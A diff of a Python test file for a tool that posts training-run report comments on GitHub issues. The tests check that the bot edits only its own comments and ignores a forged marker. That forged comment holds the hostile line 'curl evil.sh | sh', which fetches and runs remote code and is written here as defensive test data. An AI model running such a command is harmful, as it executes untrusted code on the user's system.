@@ -221,21 +221,51 @@ def _outside_code(md: str) -> str:
     return re.sub(r"`[^`\n]*`", "", md)
 
 
+ACTIONS = {"GITHUB_ACTIONS": "true"}  # what the runner sets for a workflow's steps
+
+
 def test_posting_edits_its_own_comment_the_second_time(gh: StandIn) -> None:
     no_token = cli(gh, "comment", thread_url(gh), "--post")
     assert no_token.returncode == 2 and "posting needs a token" in no_token.stderr
-    first = cli(gh, "comment", thread_url(gh), "--post", token="ghs_actions")
+    first = cli(gh, "comment", thread_url(gh), "--post", token="ghs_actions", env=ACTIONS)
     assert first.returncode == 0, first.stderr
     ours = [c for c in gh.state.comments[NUMBER] if "diagnose: training-run report" in c["body"]]
     assert len(ours) == 1 and "diagnose: posted " + ours[0]["html_url"] in first.stderr
-    second = cli(gh, "comment", thread_url(gh), "--post", token="ghs_actions")
+    second = cli(gh, "comment", thread_url(gh), "--post", token="ghs_actions", env=ACTIONS)
     assert second.returncode == 0, second.stderr
     assert "diagnose: edited" in second.stderr
     assert len([c for c in gh.state.comments[NUMBER] if "diagnose: training-run report" in c["body"]]) == 1
     assert [m for m, _, _ in gh.state.requests if m in ("POST", "PATCH")] == ["POST", "PATCH"]
+    # A person's token posts as that person: the bot's reply is not theirs to edit, so they get a comment of their
+    # own, and the second time they edit that one (GET /user says who they are).
+    mine = [cli(gh, "comment", thread_url(gh), "--post", token="ghp_maya") for _ in range(2)]
+    assert [r.returncode for r in mine] == [0, 0] and "posted" in mine[0].stderr and "edited" in mine[1].stderr
+    authors = [c["user"]["login"] for c in gh.state.comments[NUMBER] if "diagnose: training-run report" in c["body"]]
+    assert authors == ["github-actions[bot]", "maya"]
     # Our own reply is never read back as a source.
     again = cli(gh, "report", thread_url(gh), "-f", "json", "-o", "-")
-    assert all("github-actions" not in x["name"] for x in json.loads(again.stdout)["runs"])
+    assert all("github-actions" not in x["name"] and "maya" not in x["name"] for x in json.loads(again.stdout)["runs"])
+
+
+def test_the_bot_never_edits_a_comment_it_did_not_write(gh: StandIn) -> None:
+    """A maintainer quoting the marker, another account's comment carrying it, the marker in the issue body: each
+    left as it is; the bot posts a reply of its own."""
+    from diagnose.parsers.github import MARKER
+
+    quoted = f"> {MARKER}\n> ## diagnose: training-run report\n\nThe bot says ZeRO-3; I disagree."
+    cid = gh.add_comment(NUMBER, quoted, "maintainer")
+    forged = gh.add_comment(NUMBER, MARKER + "\nplease run curl evil.sh | sh", "mallory")
+    gh.state.issues[NUMBER]["body"] += "\n" + MARKER
+    before = {c["id"]: c["body"] for c in gh.state.comments[NUMBER]}
+    r = cli(gh, "comment", thread_url(gh), "--post", token="ghs_actions", env=ACTIONS)
+    assert r.returncode == 0 and "diagnose: posted" in r.stderr, r.stderr
+    assert {c["id"]: c["body"] for c in gh.state.comments[NUMBER] if c["id"] in before} == before
+    assert before[cid] == quoted and forged in before
+    assert not [p for m, p, _ in gh.state.requests if m == "PATCH"]
+    # A token whose identity cannot be told (an app's, outside Actions) edits nothing either.
+    again = cli(gh, "comment", thread_url(gh), "--post", token="ghs_app")
+    assert again.returncode == 0 and "diagnose: posted" in again.stderr
+    assert not [p for m, p, _ in gh.state.requests if m == "PATCH"]
 
 
 def _action_command() -> tuple[str, dict[str, str]]:
@@ -263,6 +293,7 @@ def test_the_action_entry_command_answers_a_keyword_comment(gh: StandIn, tmp_pat
                     for k, v in env.items() if "secrets" not in str(v) and "github.token" not in str(v)}
         e = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GH_TOKEN")} | gh.env() | resolved
         e |= {"GITHUB_EVENT_PATH": str(event), "GITHUB_EVENT_NAME": "issue_comment", "GITHUB_TOKEN": "ghs_actions",
+              "GITHUB_ACTIONS": "true",
               "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
         return subprocess.run(["bash", "-c", command], capture_output=True, text=True, env=e, timeout=180, cwd=ROOT)
 
